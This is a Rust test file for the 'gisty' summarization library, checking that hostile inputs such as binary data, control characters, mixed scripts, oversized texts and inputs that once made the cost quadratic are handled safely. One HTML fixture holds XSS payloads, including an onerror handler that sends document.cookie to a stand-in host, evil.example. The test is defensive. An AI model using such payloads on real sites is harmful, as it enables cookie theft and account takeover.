//! Hostile inputs (issue 6): each a named test with the result it must give. Whatever the input,
//! the core answers with a summary (possibly empty) or, above [`MAX_INPUT_BYTES`], a typed
//! error; it never panics, and every sentence it returns is the input's text at its span.
//!
//! The core treats every input as text: refusing binary files is the caller's choice (the CLI
//! does, see tests/cli.rs). Findings of the fuzz targets (fuzz/) are added here as named
//! regression tests.
//!
//! Decisions these tests pin down:
//! - a text with no sentence (empty, white space, punctuation only) is an empty summary;
//! - a short line without a final stop, standing alone, is a heading (title context), not a
//!   sentence, unless the text has nothing but headings: "Hello" alone, or one word of 100 KB,
//!   or a list of short lines, is its own summary;
//! - a long run of words with no stop and no line break is one sentence, however long;
//! - repeated sentences are summarized once (redundancy removal), so 100 000 copies of
//!   "Word." give one sentence;
//! - above 50 MiB of text ([`MAX_INPUT_BYTES`]) or 1 000 documents ([`gisty::MAX_DOCUMENTS`])
//!   the answer is a typed error with a message, given before any work.
//!
//! The inputs at the end once made the cost quadratic; they are checked here for their results.
//! How their cost grows is guarded by work counts in tests/growth.rs (in the test command) and
//! timed by benches/scaling.rs with scripts/scaling.sh, up to 4 MB.
#![cfg(not(target_arch = "wasm32"))]

#[path = "support/binary.rs"]
mod binary;
#[path = "support/words.rs"]
mod words;

use std::time::Instant;

use words::words;

use gisty::{
    keywords, keywords_many, rank, split_sentences, summarize, summarize_many, Doc, ErrorKind,
    Length, MultiSummary, Options, ScoredSentence, Summary, MAX_INPUT_BYTES,
};

/// Every sentence is `text` at its span, trimmed, non-empty, with a finite score, in document
/// order without overlap.
fn check_sentences(text: &str, sentences: &[ScoredSentence]) {
    let mut prev: Option<&ScoredSentence> = None;
    for s in sentences {
        assert!(s.start < s.end, "empty span: {s:?}");
        assert!(
            text.is_char_boundary(s.start) && text.is_char_boundary(s.end),
            "span {}..{} is not on char boundaries",
            s.start,
            s.end
        );
        assert_eq!(
            &text[s.start..s.end],
            s.text,
            "span does not slice the text"
        );
        assert_eq!(s.text.trim(), s.text, "untrimmed: {:?}", s.text);
        assert!(s.score.is_finite(), "score {} for {:?}", s.score, s.text);
        if let Some(p) = prev {
            assert!(
                p.index < s.index && p.end <= s.start,
                "out of order: {p:?}, {s:?}"
            );
        }
        prev = Some(s);
    }
}

/// The default summary of `text`, checked against its ranking.
fn summary(text: &str) -> Summary {
    summary_with(text, &Options::default())
}

fn summary_with(text: &str, options: &Options) -> Summary {
    let s = summarize(text, options).expect("a summary");
    check_sentences(text, &s.sentences);
    let ranked = rank(text, options).expect("a ranking");
    check_sentences(text, &ranked);
    assert_eq!(s.total_sentences, ranked.len());
    for x in &s.sentences {
        assert_eq!(Some(x), ranked.get(x.index), "not a ranked sentence");
    }
    if let Length::Sentences(k) = options.length {
        assert!(s.sentences.len() <= k);
        if !ranked.is_empty() {
            assert!(!s.sentences.is_empty(), "sentences, but an empty summary");
        }
    }
    keywords(text, 5, options).expect("keywords");
    s
}

fn texts(s: &Summary) -> Vec<&str> {
    s.sentences.iter().map(|x| x.text.as_str()).collect()
}

/// Sentences of `text` as strings, checking the segmenter's range contract on the way.
fn sentences(text: &str) -> Vec<&str> {
    let ranges = split_sentences(text);
    let mut last = 0;
    for r in &ranges {
        assert!(
            r.start < r.end && r.start >= last && r.end <= text.len(),
            "{r:?}"
        );
        assert!(text.is_char_boundary(r.start) && text.is_char_boundary(r.end));
        assert_eq!(text[r.clone()].trim(), &text[r.clone()]);
        last = r.end;
    }
    ranges.into_iter().map(|r| &text[r]).collect()
}

#[test]
fn empty_text_is_an_empty_summary() {
    let s = summary("");
    assert!(s.sentences.is_empty());
    assert_eq!((s.total_sentences, s.total_words), (0, 0));
    assert!(rank("", &Options::default()).unwrap().is_empty());
    assert!(keywords("", 5, &Options::default()).unwrap().is_empty());
}

#[test]
fn white_space_only_is_an_empty_summary() {
    for text in [
        " ",
        "\n\n\n",
        " \t\r\n \u{0B}\u{0C} ",
        "\u{A0}\u{2003}\u{3000}\u{2028}\u{2029}\u{85}",
        "\u{200B}\u{FEFF}\u{2060}",
        &" \n".repeat(100_000),
    ] {
        let s = summary(text);
        assert!(s.sentences.is_empty(), "{text:?}");
        assert_eq!(s.total_sentences, 0);
    }
}

#[test]
fn one_word_alone_is_its_summary_with_a_stop_or_without() {
    assert_eq!(sentences("Hello"), ["Hello"]);
    // A lone short line is a heading, but a text of headings only has nothing else to say.
    let s = summary("Hello");
    assert_eq!(texts(&s), ["Hello"]);
    assert_eq!(
        (s.sentences[0].start, s.total_sentences, s.total_words),
        (0, 1, 1)
    );
    assert_eq!(texts(&summary("Hello.")), ["Hello."]);
    assert_eq!(texts(&summary("  Hello!  \n")), ["Hello!"]);
    // A list of short lines: the lines are the sentences.
    let list = "Buy milk\nCall the plumber\nFix the car\nPay the rent\n";
    assert_eq!(summary(list).total_sentences, 4);
    assert_eq!(summary(list).sentences.len(), 3);
    // Beside prose, a short line is still a heading.
    assert_eq!(
        summary("Hello\nThe talks ended on Sunday.").total_sentences,
        1
    );
}

#[test]
fn one_sentence_is_its_own_summary() {
    let text = "  The council approved the new park on Monday after a long debate.\n";
    let s = summary(text);
    assert_eq!(
        texts(&s),
        ["The council approved the new park on Monday after a long debate."]
    );
    assert_eq!((s.sentences[0].start, s.total_sentences), (2, 1));
    assert_eq!(s.total_words, 12);
    for method in gisty::Method::NAMES {
        let o = Options {
            method: gisty::Method::parse(method).unwrap(),
            ..Options::default()
        };
        assert_eq!(summary_with(text, &o).sentences.len(), 1, "{method}");
    }
}

#[test]
fn one_megabyte_without_punctuation_or_line_break_is_one_sentence() {
    let vocab = words(500);
    let mut text = String::new();
    let mut i = 0;
    while text.len() < 1 << 20 {
        text.push_str(&vocab[(i * 7919) % vocab.len()]);
        text.push(' ');
        i += 1;
    }
    let s = summary(&text);
    assert_eq!(s.total_sentences, 1);
    assert_eq!(texts(&s), [text.trim_end()], "the whole text, trimmed");
    assert_eq!(s.total_words, i);
}

#[test]
fn only_punctuation_is_an_empty_summary() {
    for text in [
        "...",
        "!!! ??? ... ;;; ,,, --- *** ### @@@ %%% ^^^ &&& ((( ))) [[[ ]]] {{{ }}}",
        ". . . . .\n\n! ! !\n- - -\n* * *\n\u{2026} \u{3002}\u{FF01}\u{FF1F} \u{0964}",
        &". ".repeat(200_000),
        &"?!".repeat(100_000),
    ] {
        assert!(
            sentences(text).is_empty(),
            "{:?}",
            &text[..text.len().min(40)]
        );
        let s = summary(text);
        assert!(s.sentences.is_empty(), "{:?}", &text[..text.len().min(40)]);
    }
}

#[test]
fn a_single_word_of_100_kb_is_one_sentence_with_a_stop_or_without() {
    let word = "Abcdefghij".repeat(10_240);
    assert_eq!(sentences(&word), [word.as_str()]);
    assert_eq!(
        texts(&summary(&word)),
        [word.as_str()],
        "the text is that line"
    );
    let text = format!("{word}.");
    let s = summary(&text);
    assert_eq!(texts(&s), [text.as_str()]);
    assert_eq!(s.total_words, 1);
    // Between two sentences it is a sentence of its own.
    let text = format!("The first sentence ends here. {word}. The last sentence ends here.");
    assert_eq!(summary(&text).total_sentences, 3);
}

#[test]
fn one_hundred_thousand_one_word_sentences() {
    // Identical sentences repeat each other: one is kept.
    let text = "Word. ".repeat(100_000);
    let s = summary(&text);
    assert_eq!(s.total_sentences, 100_000);
    assert_eq!(texts(&s), ["Word."]);
    // Distinct ones (prefixed, so that none is an abbreviation such as "Ca."): a summary of
    // three.
    let text: String = words(100_000).iter().map(|w| format!("W{w}. ")).collect();
    let s = summary(&text);
    assert_eq!(s.total_sentences, 100_000);
    assert_eq!(s.sentences.len(), 3);
}

#[test]
fn emoji_with_zwj_sequences_stay_whole() {
    let family = "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466}";
    let rainbow = "\u{1F3F3}\u{FE0F}\u{200D}\u{1F308}";
    let thumbs = "\u{1F44D}\u{1F3FD}";
    let flag = "\u{1F1FA}\u{1F1E6}";
    let text = format!(
        "The family {family} arrived at the park on Monday. {rainbow} {thumbs} \
         Flags {flag} and {rainbow} flew over the council hall all day. \
         {family}{family}{family}. Everyone {thumbs} cheered the new park."
    );
    assert_eq!(
        sentences(&text),
        [
            format!("The family {family} arrived at the park on Monday."),
            format!(
                "{rainbow} {thumbs} Flags {flag} and {rainbow} flew over the council hall all day."
            ),
            format!("Everyone {thumbs} cheered the new park."),
        ],
        "emoji before a sentence open it; a segment of emoji alone holds no letter and is dropped"
    );
    let s = summary(&text);
    assert_eq!(s.total_sentences, 3);
    assert!(s.sentences.iter().any(|x| x.text.contains(family)));
}

#[test]
fn right_to_left_sentences_are_found() {
    let arabic = "وافق المجلس على الحديقة الجديدة يوم الاثنين. ستفتح الحديقة في مايو؟ \
                  قال المنتقدون إن الحديقة صغيرة جدا.";
    assert_eq!(sentences(arabic).len(), 3, "{:?}", sentences(arabic));
    assert_eq!(summary(arabic).sentences.len(), 3);
    let hebrew =
        "המועצה אישרה את הפארק החדש ביום שני. הפארק ייפתח במאי! המבקרים אמרו שהפארק קטן מדי.";
    assert_eq!(sentences(hebrew).len(), 3, "{:?}", sentences(hebrew));
    // Bidirectional controls (RLM, LRM, RLE, PDF, RLO, isolates) are kept inside sentences.
    let marked = "\u{200F}המועצה אישרה את הפארק.\u{200E} \u{202B}The park opens in May.\u{202C} \
                  \u{202E}Reversed text here.\u{202C} \u{2067}Isolated\u{2069} words end here.";
    let got = sentences(marked);
    assert_eq!(got.len(), 4, "{got:?}");
    assert!(got[1].starts_with('\u{202B}'), "{got:?}");
    assert_eq!(summary(marked).total_sentences, 4);
    // A sentence alone on its line, its stop followed by a direction mark, is not a heading.
    let line =
        "\u{200F}המועצה אישרה את הפארק החדש ביום שני.\u{200F}\n\u{200F}הפארק ייפתח במאי.\u{200F}";
    assert_eq!(summary(line).total_sentences, 2);
}

#[test]
fn cjk_is_split_at_full_stops() {
    let text = "今天天气很好。我们去公园吧！你觉得怎么样？好的。";
    assert_eq!(
        sentences(text),
        [
            "今天天气很好。",
            "我们去公园吧！",
            "你觉得怎么样？",
            "好的。"
        ]
    );
    let japanese = "東京は大きい都市です。「はい。」と言った。京都は古い。";
    assert_eq!(
        sentences(japanese),
        [
            "東京は大きい都市です。",
            "「はい。」と言った。",
            "京都は古い。"
        ]
    );
    let korean = "서울은 큰 도시입니다. 부산은 항구 도시입니다. 제주도는 섬입니다.";
    assert_eq!(sentences(korean).len(), 3);
    let s = summary(&text.repeat(20));
    assert_eq!(s.total_sentences, 80);
    assert!(!s.sentences.is_empty());
}

#[test]
fn mixed_scripts_in_one_text() {
    let text = "Привет, мир. Hello world, this is English. Γειά σου κόσμε; \
                नमस्ते दुनिया। 你好世界。 مرحبا بالعالم. Ողջույն աշխարհ։ ሰላም ዓለም። \
                สวัสดีชาวโลก ยินดีต้อนรับ";
    let got = sentences(text);
    assert_eq!(
        got,
        [
            "Привет, мир.",
            "Hello world, this is English.",
            "Γειά σου κόσμε; नमस्ते दुनिया।",
            "你好世界。",
            "مرحبا بالعالم.",
            "Ողջույն աշխարհ։",
            "ሰላም ዓለም።",
            "สวัสดีชาวโลก ยินดีต้อนรับ",
        ],
        "the Greek question mark ends a sentence only before a capital, like `?`"
    );
    let s = summary(text);
    assert_eq!(s.total_sentences, got.len());
}

#[test]
fn nul_and_control_characters_do_not_break_anything() {
    let text = "Start\0 of the text.\x07 Bell\x08 and backspace here. \x1b[31mRed\x1b[0m \
                terminal colours. Next\x0b line\x0c page. Delete\x7f char.\x00\x00\x00 \
                \u{80}\u{9F} C1 controls. \u{FFFE}\u{FFFF} noncharacters.";
    let got = sentences(text);
    assert!(got.len() >= 5, "{got:?}");
    assert!(got[0].contains('\0'), "NUL is kept as a character: {got:?}");
    let s = summary_with(
        text,
        &Options {
            length: Length::Sentences(20),
            redundancy: 1.0,
            ..Options::default()
        },
    );
    assert_eq!(s.sentences.len(), s.total_sentences);
    let nuls = "\0".repeat(100_000);
    assert!(summary(&nuls).sentences.is_empty());
    let all: String = (0u8..0x20).map(char::from).cycle().take(50_000).collect();
    summary(&all);
}

#[test]
fn invalid_utf8_decoded_lossily_is_summarized() {
    // Latin-1, truncated sequences, lone continuation bytes, overlong forms, surrogates.
    let bytes: &[u8] = b"Caf\xe9 au lait is served daily. Na\xefve r\xe9sum\xe9 writers wait. \
        \xff\xfe\x80 Bad bytes appear here. Truncated \xe2\x82 euro sign. Overlong \xc0\xaf \
        slash. Surrogate \xed\xa0\x80 half.";
    let text = String::from_utf8_lossy(bytes);
    let s = summary_with(
        &text,
        &Options {
            length: Length::Sentences(10),
            redundancy: 1.0,
            ..Options::default()
        },
    );
    assert_eq!(s.total_sentences, 6);
    assert_eq!(s.sentences[0].text, "Caf\u{FFFD} au lait is served daily.");
}

#[test]
fn binary_files_decoded_lossily_do_not_break_the_core() {
    let mut noise = Vec::new();
    let mut x: u32 = 0x1234_5678;
    for _ in 0..200_000 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        noise.push(x as u8);
    }
    for (name, bytes) in [
        ("png", binary::png()),
        ("zip", binary::zip()),
        ("pdf", binary::pdf()),
        ("noise", noise),
    ] {
        let text = String::from_utf8_lossy(&bytes);
        sentences(&text);
        summary(&text);
        let m = summarize_many(
            &[Doc::from(text.as_ref()), Doc::from("A sentence.")],
            &Options::default(),
        )
        .unwrap_or_else(|e| panic!("{name}: {e}"));
        check_many(&[&text, "A sentence."], &m);
    }
}

#[test]
fn html_written_to_attack_is_plain_text_to_the_core() {
    let html = r#"<html><head><script>alert(document.cookie)</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert('loaded')"><iframe src="javascript:alert(2)"></iframe>
<p>The council approved the new park on Monday. <a href="javascript:alert(3)">Read more</a> about the plan.</p>
<img src=x onerror="fetch('//evil.example/?c='+document.cookie)">
<svg onload=alert(4)><p>Critics said the park is too small. Residents cheered the decision.</p>
<script>new Function("return 1")(); eval("2")</script></body></html>"#;
    let s = summary_with(
        html,
        &Options {
            length: Length::Sentences(50),
            redundancy: 1.0,
            ..Options::default()
        },
    );
    assert!(s.total_sentences >= 3);
    // Markup is kept verbatim as characters: the core neither strips nor interprets it, so
    // showing a sentence as text (never as HTML) shows exactly what was pasted.
    assert!(
        s.sentences.iter().any(|x| x.text.contains("<script>")),
        "{:?}",
        texts(&s)
    );
    assert!(s
        .sentences
        .iter()
        .any(|x| x.text.contains("javascript:alert")));
}

/// Checks a multi-document summary: valid document indices and spans, a symmetric similarity
/// matrix with 1 on the diagonal and entries in [0, 1].
fn check_many(texts: &[&str], m: &MultiSummary) {
    for s in &m.sentences {
        assert!(s.doc < texts.len());
        check_sentences(texts[s.doc], std::slice::from_ref(s));
    }
    for (a, row) in m.similarity.iter().enumerate() {
        assert_eq!(row[a], 1.0);
        for (b, &v) in row.iter().enumerate() {
            assert!(
                (0.0..=1.0).contains(&v) && v == m.similarity[b][a],
                "[{a}][{b}] = {v}"
            );
        }
    }
}

/// `bytes` of cheap text: one paragraph of distinct words, repeated.
fn filler(bytes: usize) -> String {
    let para: String = words(2000)
        .chunks(20)
        .map(|w| {
            let mut s = w.join(" ");
            s.push_str(". ");
            s[..1].make_ascii_uppercase();
            s
        })
        .collect::<String>()
        + "\n\n";
    let mut text = para.repeat(bytes / para.len() + 1);
    text.truncate(bytes);
    text
}

fn assert_too_long(r: gisty::Result<impl std::fmt::Debug>, bytes: usize) {
    let e = r.expect_err("over the limit");
    assert_eq!(
        e.kind(),
        &ErrorKind::TooLong {
            bytes,
            limit: MAX_INPUT_BYTES
        }
    );
    assert_eq!(
        e.to_string(),
        "the text is 50.1 MB; gisty summarizes at most 50 MB at once"
    );
}

#[test]
fn above_fifty_megabytes_is_a_clear_error_before_any_work() {
    assert_eq!(MAX_INPUT_BYTES, 52_428_800);
    let over = MAX_INPUT_BYTES + 1;
    // No sentence stop at all: if the check came after segmentation, this would take seconds.
    let text = "a".repeat(over);
    let o = Options::default();
    assert_too_long(summarize(&text, &o), over);
    assert_too_long(rank(&text, &o), over);
    assert_too_long(keywords(&text, 5, &o), over);
    assert_too_long(summarize_many(&[Doc::from(text.as_str())], &o), over);
    assert_too_long(keywords_many(&[Doc::from(text.as_str())], 5, &o), over);
    // Several documents count together, with their titles and the focus.
    let half = &text[..MAX_INPUT_BYTES / 2];
    let docs = [
        Doc::from(half),
        Doc {
            text: half,
            title: Some("T"),
            ..Doc::default()
        },
    ];
    assert_too_long(summarize_many(&docs, &o), over);
    let docs = [Doc::from(half), Doc::from(half)];
    let titled = Options {
        focus: Some("x".into()),
        ..o.clone()
    };
    assert_too_long(summarize_many(&docs, &titled), over);
    // Invalid options are still named first.
    let bad = Options {
        redundancy: 2.0,
        ..o
    };
    assert!(matches!(
        summarize(&text, &bad).unwrap_err().kind(),
        ErrorKind::BadRedundancy(_)
    ));
}

/// Just under the limit, a summary. Slow unoptimized (about a minute); run it optimized:
/// `cargo test --release --test hostile -- --ignored`.
#[test]
#[ignore = "49 MB: run with --release (cargo test --release --test hostile -- --ignored)"]
fn just_under_fifty_megabytes_is_summarized() {
    let text = filler(MAX_INPUT_BYTES - 1024);
    let t0 = Instant::now();
    let s = summary(&text);
    eprintln!(
        "{} bytes, {} sentences: {:?}",
        text.len(),
        s.total_sentences,
        t0.elapsed()
    );
    assert_eq!(s.sentences.len(), 3);
    let at_limit = filler(MAX_INPUT_BYTES);
    assert_eq!(
        summarize(&at_limit, &Options::default())
            .unwrap()
            .sentences
            .len(),
        3
    );
}

/// Log-like lines, each its own sentence, sharing a few common words.
fn log_lines(bytes: usize) -> String {
    let mut text = String::new();
    let mut i = 0;
    while text.len() < bytes {
        text.push_str(&format!("Event {i} happened at node{}.\n", i * 7 % 1000));
        i += 1;
    }
    text
}

/// Distinct one-word sentences: "Wba. Wca. Wda. "
fn one_word_sentences(bytes: usize) -> String {
    let mut text = String::new();
    for w in words(bytes / 4) {
        if text.len() >= bytes {
            break;
        }
        text.push_str(&format!("W{w}. "));
    }
    text
}

#[test]
fn a_long_summary_of_many_sentences_is_made() {
    // Finding: selection compared every candidate with every picked sentence, so a summary of
    // 30% of 100 000 sentences made billions of comparisons (4 MB of log lines at 30%: 23 s;
    // 50 MB would not finish). Now a candidate meets only the picked sentences that share its
    // terms.
    // Distinct words share no term, so none repeats another: all of them are the summary.
    let all = Options {
        length: Length::Ratio(1.0),
        ..Options::default()
    };
    let text = one_word_sentences(32 << 10);
    let s = summary_with(&text, &all);
    assert_eq!(s.total_sentences, text.matches(". ").count());
    assert_eq!(s.sentences.len(), s.total_sentences);
    // A word budget above the text's words, repeats kept: every sentence, every word.
    let o = Options {
        length: Length::Words(usize::MAX),
        redundancy: 1.0,
        ..Options::default()
    };
    let text = log_lines(32 << 10);
    let s = summary_with(&text, &o);
    assert_eq!(s.total_sentences, text.lines().count());
    assert_eq!(s.sentences.len(), s.total_sentences);
    assert_eq!(s.words(), s.total_words);
    assert_eq!(
        s.total_words,
        5 * s.total_sentences,
        "Event 1 happened at node7."
    );
}

#[test]
fn repeats_are_still_found_in_a_long_summary() {
    // The same sentence 2 000 times among 2 000 distinct ones: it is picked once.
    let mut text = String::new();
    for i in 0..2000 {
        text.push_str(&format!(
            "Node{i} reported {} errors overnight. ",
            i * 31 % 997
        ));
        text.push_str("The whole cluster restarted after the outage. ");
    }
    let s = summary_with(
        &text,
        &Options {
            length: Length::Ratio(1.0),
            ..Options::default()
        },
    );
    let restarts = s
        .sentences
        .iter()
        .filter(|x| x.text.starts_with("The whole cluster"))
        .count();
    assert_eq!(restarts, 1);
    assert!(s.sentences.len() > 1900, "{}", s.sentences.len());
}

/// A heading line, then a sentence, over and over: news with many subheads, or a pasted table
/// of contents.
fn headed(bytes: usize) -> String {
    let w = words(40_000);
    let mut text = String::new();
    let mut i = 0;
    while text.len() < bytes {
        let cap = |s: &str| s[..1].to_ascii_uppercase() + &s[1..];
        text.push_str(&format!(
            "{} {} Report\nThe {} said the {} would {} soon.\n",
            cap(&w[i % w.len()]),
            cap(&w[(i + 1) % w.len()]),
            w[(i + 2) % w.len()],
            w[(i + 3) % w.len()],
            w[(i + 4) % w.len()]
        ));
        i += 1;
    }
    text
}

#[test]
fn many_headings_are_handled() {
    // Finding: every sentence sorted all of its document's heading terms to score title
    // overlap, so a text of many headings was quadratic (1 MB of them: 13 s). The heading
    // terms are now sorted once per document.
    for bytes in [20_000, 32 << 10] {
        let text = headed(bytes);
        let s = summary(&text);
        assert_eq!(s.sentences.len(), 3);
        // The headings are title context, never sentences: one sentence a heading.
        assert_eq!(s.total_sentences, text.lines().count() / 2);
        for x in &s.sentences {
            assert!(
                x.text.starts_with("The ") && x.text.ends_with(" soon."),
                "{x:?}"
            );
        }
    }
}

/// The same word in ever new mixes of capitals: "abcd… zed. aBcd… zed. ABcd… zed."
fn case_variants(bytes: usize) -> String {
    let mut text = String::new();
    let mut i = 0usize;
    while text.len() < bytes {
        for (k, c) in "abcdefghijklmnopqr".chars().enumerate() {
            text.push(if (i >> k) & 1 == 1 {
                c.to_ascii_uppercase()
            } else {
                c
            });
        }
        text.push_str(" zed. ");
        i += 1;
    }
    text
}

#[test]
fn thousands_of_spellings_of_one_phrase_are_handled() {
    // Finding: key phrases kept every written form of a phrase and searched them all at each
    // occurrence, so 1 MB of case variants of one word took 4 s; a phrase now keeps its first
    // 16 forms.
    for (bytes, n) in [(50_000, 3), (32 << 10, 10)] {
        let text = case_variants(bytes);
        let k = keywords(&text, n, &Options::default()).unwrap();
        assert!(!k.is_empty() && k.len() <= n, "{k:?}");
        assert!(
            k[0].text.to_lowercase().starts_with("abcdefghijklmnopqr"),
            "{k:?}"
        );
        // Every spelling is the same phrase: it is counted once in each sentence, and written
        // in one of the text's forms.
        assert_eq!(k[0].count, text.matches(" zed. ").count(), "{k:?}");
        assert!(text.contains(&k[0].text), "{k:?}");
        assert_eq!(k[0].score, 1.0);
    }
}

#[test]
fn more_than_a_thousand_documents_is_a_clear_error() {
    // Finding: the document similarity matrix has an entry per pair, so 20 000 one-line
    // documents (250 KB in all) took 11 GB and 40 s.
    assert_eq!(gisty::MAX_DOCUMENTS, 1000);
    let texts: Vec<String> = (0..1001)
        .map(|i| format!("Document {i} says hello."))
        .collect();
    let docs: Vec<Doc> = texts.iter().map(|t| Doc::from(t.as_str())).collect();
    let o = Options::default();
    let e = summarize_many(&docs, &o).unwrap_err();
    assert_eq!(
        e.kind(),
        &ErrorKind::TooManyDocuments {
            docs: 1001,
            limit: 1000
        }
    );
    assert_eq!(
        e.to_string(),
        "1001 documents given; gisty summarizes at most 1000 documents together"
    );
    assert!(keywords_many(&docs, 5, &o).is_err());
    let m = summarize_many(&docs[..1000], &o).unwrap();
    assert_eq!(m.similarity.len(), 1000);
    check_many(&texts.iter().map(String::as_str).collect::<Vec<_>>(), &m);
}
